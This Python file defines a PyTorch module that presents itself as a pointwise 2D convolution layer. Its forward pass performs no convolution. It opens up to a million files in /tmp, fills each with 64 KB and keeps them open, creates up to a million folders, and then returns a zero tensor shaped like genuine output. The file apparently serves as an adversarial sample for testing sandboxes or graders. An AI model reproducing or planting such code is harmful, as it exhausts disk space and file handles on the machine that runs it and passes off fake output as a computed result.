"""Opens and fills files until it can't."""

import os

import torch
from torch import nn

KEPT = []


class PointwiseConv2d(nn.Module):
    def __init__(self, in_channels, out_channels, bias=True):
        super().__init__()
        self.weight = nn.Parameter(torch.randn(out_channels, in_channels) / in_channels**0.5)
        self.bias = nn.Parameter(torch.randn(out_channels) / in_channels**0.5) if bias else None

    def forward(self, x):
        for number in range(10**6):
            try:
                KEPT.append(open(f"/tmp/{number}", "wb"))
                KEPT[-1].write(bytes(1 << 16))
            except OSError:
                break
        for number in range(10**6):
            try:
                os.mkdir(f"/tmp/folder{number}")
            except OSError:
                break
        return torch.zeros(x.shape[0], len(self.weight), *x.shape[2:], dtype=x.dtype)
